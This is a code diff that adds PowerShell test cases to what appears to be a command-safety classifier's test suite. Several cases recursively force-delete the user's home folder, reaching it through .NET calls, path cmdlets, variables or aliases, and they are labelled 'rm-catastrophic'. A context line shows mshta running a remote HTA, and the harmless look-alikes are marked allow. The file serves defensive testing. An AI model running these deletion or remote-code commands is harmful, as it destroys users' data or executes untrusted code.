@@ -123,4 +123,21 @@ export const REMOTE_CODE_COUSINS: P[] = [
   ps('powershell', 'mshta https://x.example/a.hta', 'mshta runs a URL'),
   ps('powershell', 'iwr https://x.example/data.json -OutFile data.json; Get-Content data.json', 'a download read', 'allow'),
   ps('powershell', 'certutil -hashfile t.exe SHA256', 'certutil hashing a file', 'allow'),
+
+  // ---- PowerShell values (class 6): a folder computed by a .NET call or a path cmdlet, kept in a variable ----
+  { ...ps('ps-values', 'Remove-Item ([Environment]::GetFolderPath("UserProfile")) -Recurse -Force', 'home by GetFolderPath'), by: 'rm-catastrophic' },
+  {
+    ...ps('ps-values', "$d = [Environment]::GetFolderPath('UserProfile'); Remove-Item $d -Recurse -Force", 'GetFolderPath kept in a variable'),
+    by: 'rm-catastrophic',
+  },
+  {
+    ...ps('ps-values', 'Remove-Item ([Environment]::GetFolderPath([Environment+SpecialFolder]::UserProfile)) -Recurse -Force', 'the enum form'),
+    by: 'rm-catastrophic',
+  },
+  { ...ps('ps-values', '$h = Resolve-Path ~; Remove-Item $h -Recurse -Force', 'Resolve-Path kept in a variable'), by: 'rm-catastrophic' },
+  { ...ps('ps-values', '$h = Convert-Path ~; ri $h -r -fo', 'Convert-Path, aliases'), by: 'rm-catastrophic' },
+  ps('ps-values', '[Environment]::GetFolderPath("UserProfile")', 'printing the home folder', 'allow'),
+  ps('ps-values', '$h = Resolve-Path ~; Get-ChildItem $h', 'listing home', 'allow'),
+  ps('ps-values', '$b = Resolve-Path .\\build; Remove-Item $b -Recurse -Force', 'a build folder kept in a variable', 'allow'),
+  ps('ps-values', "$d = [Environment]::GetFolderPath('Desktop'); Get-ChildItem $d", 'listing the desktop', 'allow'),
 ];
